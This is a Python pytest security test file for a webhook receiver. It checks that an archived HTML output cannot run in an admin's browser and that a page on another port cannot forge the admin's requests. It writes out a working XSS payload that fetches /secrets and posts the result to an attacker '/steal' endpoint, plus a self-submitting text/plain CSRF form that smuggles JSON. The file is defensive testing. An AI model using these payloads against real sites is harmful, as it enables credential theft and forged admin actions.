"""The two attacks of the hardening report that need a browser, in Debian's Chromium driven by
Playwright: a signed-in admin opens an archived output that is really an HTML page with a
script, and visits a page on another port of the same host that posts a form to the receiver.
Neither may act as the admin."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest
from litestar import Litestar, Request, get, post

from receiver.webhooks.signing import sign
from tests.conftest import ADMIN_TOKEN, TEST_SECRET, make_settings
from tests.support import chromium
from tests.support.aurous import generation
from tests.support.harness import ReceiverHandle, start_receiver, wait_for
from tests.support.live_server import LiveServer, live_server

STOLEN: list[bytes] = []


@get("/o/page.html", media_type="text/html")
async def page_output() -> str:
    """An 'output' that reads the admin's secrets if it ever runs in the receiver's origin."""
    return (
        "<html><body><script>"
        "fetch('/secrets', {credentials: 'include'}).then(r => r.text()).then(t => "
        "fetch(location.protocol + '//' + location.hostname + ':' + EVIL_PORT + '/steal', "
        "{method: 'POST', body: t, mode: 'no-cors'}))"
        "</script></body></html>"
    ).replace("EVIL_PORT", "window.name")


@get("/csrf", media_type="text/html")
async def csrf_page(request: Request[object, object, object]) -> str:
    """A page of another site (another port of this host) that makes the browser post JSON."""
    target = request.query_params["target"]
    return (
        f'<html><body><form method="POST" action="{target}/jobs/track" enctype="text/plain">'
        '<input name=\'{"id": "img_csrfattack", "x": "\' value=\'"}\'></form>'
        "<script>document.forms[0].submit()</script></body></html>"
    )


@post("/steal", status_code=204)
async def steal(request: Request[object, object, object]) -> None:
    STOLEN.append(await request.body())


@pytest.fixture
def evil() -> Iterator[LiveServer]:
    STOLEN.clear()
    with live_server(Litestar([page_output, csrf_page, steal])) as server:
        yield server


@pytest.fixture
def receiver(tmp_path: Path, sqlite_url: str, evil: LiveServer) -> Iterator[ReceiverHandle]:
    settings = make_settings(
        tmp_path / "data", sqlite_url, aurous_base_url=evil.url, background=True, tick_s=0.3
    )
    with ExitStack() as stack:
        yield start_receiver(stack, settings)


def signed_in_browser_page(playwright: object, browser_path: str, base: str) -> object:
    browser = playwright.chromium.launch(  # type: ignore[attr-defined]
        executable_path=browser_path, args=chromium.FLAGS
    )
    page = browser.new_page(accept_downloads=True)
    page.goto(f"{base}/login")
    page.fill("input[name=token]", ADMIN_TOKEN)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/")
    return page


def test_an_html_output_opened_by_the_admin_runs_nothing(
    browser_path: str, receiver: ReceiverHandle, evil: LiveServer
) -> None:
    from playwright.sync_api import Error, sync_playwright

    body = json.dumps(
        {
            "id": "evt_hostile_page",
            "type": "image.completed",
            "data": generation("img_hostilepage", output_urls=[f"{evil.url}/o/page.html"]),
        }
    ).encode()
    signature = sign(body, [TEST_SECRET], int(time.time()))
    delivered = httpx.post(
        f"{receiver.server.url}/webhooks/aurous",
        content=body,
        headers={"Aurous-Webhook-Signature": signature},
    )
    assert delivered.status_code == 200, delivered.text

    def archived() -> bool:
        outputs = receiver.client.get("/jobs/img_hostilepage").json()["outputs"]
        return outputs[0]["state"] == "archived"

    wait_for(archived, timeout=30)
    base = receiver.server.url
    with sync_playwright() as playwright:
        page = signed_in_browser_page(playwright, browser_path, base)
        page.evaluate(f"window.name = '{evil.port}'")  # type: ignore[attr-defined]
        # served as a download, which aborts the navigation: the page never renders
        with pytest.raises(Error, match=r"(?i)download"):
            page.goto(f"{base}/jobs/img_hostilepage/outputs/0")  # type: ignore[attr-defined]
        time.sleep(1.5)  # what a script would need to fetch /secrets and send them away
    assert STOLEN == []


def test_a_page_of_another_port_cannot_post_as_the_admin(
    browser_path: str, receiver: ReceiverHandle, evil: LiveServer
) -> None:
    from playwright.sync_api import sync_playwright

    base = receiver.server.url
    with sync_playwright() as playwright:
        page = signed_in_browser_page(playwright, browser_path, base)
        page.goto(f"{evil.url}/csrf?target={base}")  # type: ignore[attr-defined]
        time.sleep(1.5)  # the form submits itself on load
    answer = receiver.client.get("/jobs/img_csrfattack")
    assert answer.status_code == 404, answer.text
